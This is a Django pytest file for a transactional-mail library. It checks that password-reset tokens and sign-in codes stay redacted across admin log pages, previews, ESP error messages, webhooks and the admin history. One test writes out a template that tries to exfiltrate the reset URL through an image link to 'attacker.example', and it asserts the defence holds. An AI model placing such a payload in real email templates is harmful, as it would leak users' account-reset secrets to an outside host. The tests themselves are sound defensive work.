"""Attacks on secrets in a context by someone who reads the log, the admin's previews or a
command's output: every page and endpoint a view_email user (or a template author) can
open, while the email is queued, waiting for a retry and after it is sent."""

from __future__ import annotations

import base64
import contextlib
import json
import quopri
import re

import pytest
from django.contrib.auth.models import Permission, User
from django.utils import timezone

import transactional_mail
from tests.esp_server import click_event, post_webhook
from tests.factories import make_layout, make_template
from tests.testapp.models import Customer
from transactional_mail import delivery
from transactional_mail.models import Email, EmailAttempt, EmailStatus
from transactional_mail.redaction import REDACTED

pytestmark = pytest.mark.django_db

LOG = "/admin/transactional_mail/email/"
TOKEN = "c4k9-1f2e3d4c5b6a"
RESET_URL = f"https://shop.example.com/reset/MQ/{TOKEN}/?next=/a&x=1"
CODE = "493817"


@pytest.fixture
def viewer(client):
    user = User.objects.create_user("viewer", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename="view_email"))
    client.force_login(user)
    return client


@pytest.fixture
def template():
    return make_template("password_reset", subject="Code {{ code }}",
                         html='<p><a href="{{ reset_url }}">{{ reset_url }}</a> {{ code }}</p>',
                         category="account", layout=make_layout())


def queue(**options) -> Email:
    return transactional_mail.send("password_reset", "ann@example.com",
                                   {"reset_url": RESET_URL, "code": CODE},
                                   secret_keys=["reset_url", "code"], **options)


def pages(client, email) -> str:
    """Every page a log viewer can open about ``email``."""
    urls = [LOG, f"{LOG}?q=ann@example.com", f"{LOG}?q={email.pk}",
            f"{LOG}{email.pk}/change/", f"{LOG}{email.pk}/history/",
            f"{LOG}recipient/?address=ann@example.com", f"{LOG}?status=queued",
            f"{LOG}?o=4", "/admin/transactional_mail/"]
    out = []
    for url in urls:
        response = client.get(url)
        assert response.status_code in (200, 302), url
        out.append(response.content.decode())
    return "\n".join(out)


def test_every_page_while_queued_waiting_and_sent_hides_the_secrets(template, viewer, esp):
    email = queue()
    assert TOKEN not in pages(viewer, email) and CODE not in pages(viewer, email)
    esp.add_response(500, {"ErrorCode": 100, "Message": f"busy {RESET_URL} {CODE}"})
    delivery.deliver(email.pk)
    assert Email.objects.get(pk=email.pk).status == EmailStatus.QUEUED
    assert TOKEN not in pages(viewer, email) and CODE not in pages(viewer, email)
    Email.objects.filter(pk=email.pk).update(next_attempt_at=timezone.now())
    delivery.deliver(email.pk)
    assert Email.objects.get(pk=email.pk).status == EmailStatus.SENT
    assert TOKEN not in pages(viewer, email) and CODE not in pages(viewer, email)


def test_a_click_on_the_reset_link_is_cut_on_every_page(template, viewer, esp, client):
    email = queue()
    delivery.deliver(email.pk)
    email.refresh_from_db()
    post_webhook(client, click_event(email, url=RESET_URL))
    event = email.events.get()
    assert TOKEN not in event.click_url and TOKEN not in json.dumps(event.raw)
    assert TOKEN not in pages(viewer, email)


@pytest.mark.parametrize("lookup", [
    "template_revision__html__contains", "template_revision__template__sample_context__contains",
    "source_content_type__model", "id__in", "esp_message_id__regex",
    "template_revision__email__context__contains", "attempt_log__error__contains",
    "events__click_url__contains",
])
def test_no_url_filter_reaches_the_secret(template, viewer, lookup):
    queue()
    response = viewer.get(LOG, {lookup: "https://shop.example.com/reset/MQ/c"})
    if response.status_code == 200 and "cl" in (response.context or {}):
        # Only a harmless lookup may be answered: it must not be an oracle on the context.
        assert lookup in ("id__in", "esp_message_id__regex")
    else:
        assert response.status_code in (302, 400)


def test_a_secret_repeated_in_a_header_or_metadata_is_masked_on_the_detail_page(template,
                                                                               viewer):
    email = queue(headers={"X-Sign-In-Code": CODE}, metadata={"login": RESET_URL})
    page = viewer.get(f"{LOG}{email.pk}/change/").content.decode()
    assert CODE not in page and TOKEN not in page


@pytest.mark.parametrize("encode", [
    lambda text: quopri.encodestring(text.encode()).decode(),
    lambda text: base64.b64encode(text.encode()).decode(),
])
def test_an_esp_error_echoing_an_encoded_message_is_redacted(template, esp, encode):
    esp.add_response(500, {"ErrorCode": 100, "Message": "rejected: "
                           + encode(f"<p>Reset here: {RESET_URL} code {CODE}</p>" * 2)})
    email = queue()
    delivery.deliver(email.pk)
    row = Email.objects.get(pk=email.pk)
    errors = row.last_error + " ".join(EmailAttempt.objects.filter(email_id=email.pk)
                                       .values_list("error", flat=True))
    decoded = quopri.decodestring(errors.encode()).decode(errors="replace")
    for chunk in errors.split():
        with contextlib.suppress(ValueError):
            decoded += base64.b64decode(chunk + "==", validate=False).decode(errors="replace")
    assert TOKEN not in decoded and CODE not in decoded


def test_a_number_secret_localised_by_the_email_language_is_redacted(esp, settings):
    settings.USE_THOUSAND_SEPARATOR = True
    make_template("sign_in_code", subject="Code", html="<p>{{ code }}</p>",
                  category="account", language="de", layout=make_layout())
    email = transactional_mail.send("sign_in_code", "ann@example.com", {"code": 493817},
                                    secret_keys=["code"], language="de")
    delivery.deliver(email.pk)
    assert "493.817" in esp.requests[0].json["HtmlBody"]
    assert "493.817" not in Email.objects.get(pk=email.pk).html_body


def reset_context(customer) -> dict:
    return {"user": {"name": customer.name}, "reset_url": RESET_URL, "code": CODE}


@pytest.fixture
def reset_trigger(settings):
    settings.TRANSACTIONAL_MAIL = {**settings.TRANSACTIONAL_MAIL, "TRIGGERS": {"reset": {
        "model": "testapp.Customer", "on": "updated", "template": "password_reset",
        "to": "email", "context": "tests.attacks.test_secret_viewers.reset_context",
        "secret_keys": ["reset_url", "code"]}}}


def test_the_real_object_preview_hides_a_secret_whatever_the_filter(reset_trigger):
    from tests.test_admin_editor import PREVIEW, staff
    from tests.test_admin_real_preview import real

    template = make_template("password_reset", category="account",
                             html="<p>{{ reset_url }} {{ code }}</p>")
    customer = Customer.objects.create(name="Ann", email="ann@example.com")
    client = staff(perms=("view_emailtemplate", "view_email"))
    data = client.post(PREVIEW, real(template, customer)).json()
    assert data["errors"] == []
    text = json.dumps(data).lower()
    assert TOKEN not in text and CODE not in text
    # A filtered secret (which could not be saved) is an error in the preview: nothing
    # renders, so no spelling of the secret the masking might miss comes out.
    filtered = client.post(PREVIEW, {**real(template, customer), "html": (
        "<p>{{ reset_url|upper }} {{ code|make_list|join:'-' }}\n"
        "{{ reset_url|slice:'30:' }}</p>")}).json()
    assert [(error["code"], error["part"], error["line"]) for error in filtered["errors"]] == [
        ("secret", "html", 1), ("secret", "html", 1), ("secret", "html", 2)]
    text = json.dumps(filtered).lower()
    assert TOKEN not in text and "4-9-3-8-1-7" not in text and CODE not in text


def test_the_publish_warning_never_shows_a_queued_email_s_context(reset_trigger):
    """The warning reads the newest email's context (its keys) while that email may still
    be queued with its live secrets: only the template's own variable names come out."""
    from django.contrib import admin

    from transactional_mail.models import EmailTemplate

    template = make_template("password_reset", category="account",
                             html="<p>{{ reset_url }} {{ code }} {{ missing_thing }}</p>")
    customer = Customer.objects.create(name="Ann", email="ann@example.com")
    customer.name = "Ann B"
    customer.save()  # the trigger queues an email holding the live secrets
    queued = Email.objects.get(trigger_key="reset")
    assert queued.context["reset_url"] == RESET_URL
    warnings = admin.site._registry[EmailTemplate].publish_warnings(template)
    text = " ".join(warnings)
    assert "missing_thing" in text and "email #" in text  # the queued email's context
    assert TOKEN not in text and CODE not in text


def test_the_cancel_action_leaves_no_secret_in_the_admin_history(template, admin_client):
    email = queue()
    admin_client.post(LOG, {"action": "cancel_scheduled", "_selected_action": [email.pk]})
    from django.contrib.admin.models import LogEntry
    text = " ".join(f"{e.object_repr} {e.change_message}" for e in LogEntry.objects.all())
    assert TOKEN not in text and CODE not in text
    row = Email.objects.get(pk=email.pk)
    assert row.status == EmailStatus.CANCELLED and row.context["code"] == REDACTED


@pytest.mark.parametrize("event", ["delivery", "bounce"])
def test_a_webhook_that_ends_an_email_waiting_for_a_retry_redacts_its_context(
        template, esp, client, event):
    from tests.esp_server import bounce_event, delivery_event

    # The ESP took the message, but the worker saw an error (a timeout): a retry is due.
    esp.add_response(500, {"ErrorCode": 100, "Message": "timeout"})
    email = queue()
    delivery.deliver(email.pk)
    email.refresh_from_db()
    assert email.status == EmailStatus.QUEUED and email.context["code"] == CODE
    payload = (delivery_event(email, message_id="m-1") if event == "delivery"
               else bounce_event(email, message_id="m-1"))
    post_webhook(client, payload)
    email.refresh_from_db()
    assert email.status in (EmailStatus.DELIVERED, EmailStatus.BOUNCED)
    # It is never rendered again (the worker does not claim it) ...
    assert delivery.deliver(email.pk).status in (None, EmailStatus.DELIVERED,
                                                 EmailStatus.BOUNCED)
    email.refresh_from_db()
    # ... so its secrets should be gone, as after any final status.
    assert email.context["code"] == REDACTED and email.context["reset_url"] == REDACTED


def test_a_template_author_cannot_exfiltrate_a_secret_to_another_host(esp):
    from django.core.exceptions import ValidationError

    from transactional_mail.models import EmailTemplate

    html = ('<p><a href="{{ reset_url }}">Reset</a></p>'
            '<img src="https://attacker.example/p.gif?u={{ reset_url|urlencode }}" alt="">')
    template = EmailTemplate(key="password_reset", subject="Reset", html=html,
                             category="account")
    try:
        template.full_clean()  # what the admin's form runs on save
    except ValidationError:
        return  # refused: the defence holds
    template.save()
    template.publish()
    email = transactional_mail.send("password_reset", "ann@example.com",
                                    {"reset_url": RESET_URL}, secret_keys=["reset_url"])
    delivery.deliver(email.pk)
    sent = esp.requests[0].json["HtmlBody"]
    leaked = [url for url in re.findall(r'(?:src|href)="([^"]+)"', sent)
              if "attacker.example" in url and "c4k9" in url]
    assert leaked == []


def test_an_unmatched_click_on_a_reset_link_is_not_stored_whole(template, esp, client):
    from transactional_mail.models import EmailEvent

    esp.add_response(500, {"ErrorCode": 100, "Message": "timeout"})  # accepted? unknown
    email = queue()
    delivery.deliver(email.pk)
    email.refresh_from_db()
    assert not email.esp_message_id
    payload = click_event(email, url=RESET_URL, message_id="esp-id-never-stored")
    payload["Metadata"] = {}  # an ESP or a path that does not echo the metadata
    assert post_webhook(client, payload).status_code == 200
    event = EmailEvent.objects.get()
    assert TOKEN not in event.click_url and TOKEN not in json.dumps(event.raw)
